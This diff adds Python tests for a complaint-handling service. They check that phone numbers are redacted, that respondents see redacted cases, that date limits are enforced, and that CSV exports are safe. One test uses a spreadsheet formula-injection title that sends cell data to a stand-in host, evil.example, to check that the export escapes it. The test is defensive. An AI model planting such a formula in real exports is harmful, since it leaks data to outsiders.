@@ -1,0 +1,84 @@
+"""The complainant's identity in the forms it really takes, and values at the edge of input.
+
+A respondent reads the facts with the contact's phone removed however it was typed; a person of
+the unit complained about gets the redacted case even when also posted to the bureau (交叉挂职);
+exports open in a spreadsheet as text; dates outside the county's range are 422 problems.
+"""
+
+import csv
+import io
+
+import httpx
+
+from tests.builders import BASE, ENTERPRISE, RESPONDENT, AComplaint, People, Walk, register, step
+from yingshang.cases.pagination import Cursor
+from yingshang.testing.apps import ServiceUnderTest
+
+
+def wire(sut: ServiceUnderTest) -> httpx.AsyncClient:
+    """A client that gets the 500 a server would send instead of the raised exception."""
+    transport = httpx.ASGITransport(app=sut.app, raise_app_exceptions=False)
+    return httpx.AsyncClient(transport=transport, base_url="http://complaints")
+
+
+async def test_the_contacts_phone_is_removed_however_it_is_written(
+    complaints: ServiceUnderTest, people: People
+) -> None:
+    c, p = complaints.client, people
+    facts = (
+        "执法人员要求购买指定设备。请致电 135 1234 5678、135-1234-5678 或 (135)1234.5678 核实；"
+        "订单号 2135123456789 与此无关。"
+    )
+    case = await register(c, p.clerk, AComplaint(facts=facts))
+    case = await step(c, case, "accept", p.officer, {"note": "属受理范围"})
+    case = await step(c, case, "assign", p.officer)
+    seen = (await c.get(f"{BASE}/cases/{case['id']}", headers=p.head())).json()
+    assert seen["identity"] == "redacted"
+    assert "1234" not in seen["facts"].replace("2135123456789", ""), seen["facts"]
+    assert seen["facts"].count("[已隐去]") == 3
+    assert "2135123456789" in seen["facts"]  # a longer number that merely contains it stays
+    center = (await c.get(f"{BASE}/cases/{case['id']}", headers=p.officer)).json()
+    assert center["facts"] == facts
+
+
+async def test_a_respondent_also_posted_to_the_bureau_gets_the_redacted_case(
+    complaints: ServiceUnderTest, people: People, walk: Walk
+) -> None:
+    case = await walk.assigned()
+    both = people.issuer.headers((RESPONDENT, "head"), ("BUREAU", "staff"), staff_no="X0001")
+    response = await complaints.client.get(f"{BASE}/cases/{case['id']}", headers=both)
+    assert response.status_code == 200, response.text
+    body = response.json()
+    assert (body["identity"], body["enterprise"]) == ("redacted", None)
+    assert ENTERPRISE["uscc"][:8] not in response.text
+    bureau_only = await complaints.client.get(f"{BASE}/cases/{case['id']}", headers=people.bureau)
+    assert bureau_only.json()["identity"] == "masked"  # the control: oversight alone is masked
+
+
+async def test_an_export_opens_in_a_spreadsheet_as_text(
+    complaints: ServiceUnderTest, people: People
+) -> None:
+    title = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+    await register(complaints.client, people.clerk, AComplaint(title=title))
+    export = await complaints.client.get(f"{BASE}/cases/export", headers=people.officer)
+    assert export.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(export.text.lstrip("\ufeff"))))
+    assert [r["title"] for r in rows] == ["'" + title]
+
+
+async def test_dates_outside_the_countys_range_are_422_problems(
+    complaints: ServiceUnderTest, people: People
+) -> None:
+    cursor = Cursor(
+        "received_at", "desc", "0001-01-01T00:00:00+08:00", "01a21e0d-6276-710c-945f-c7bd48b02529"
+    ).encode()
+    asks = [
+        (f"{BASE}/statistics", {"from": "2026-01-01", "to": "9999-12-31"}, people.bureau),
+        (f"{BASE}/cases", {"received_from": "0001-01-01T00:00:00+08:00"}, people.officer),
+        (f"{BASE}/cases", {"cursor": cursor}, people.officer),
+    ]
+    async with wire(complaints) as client:
+        for url, params, headers in asks:
+            response = await client.get(url, params=params, headers=headers)
+            assert response.status_code == 422, (params, response.text)
+            assert response.headers["content-type"] == "application/problem+json"
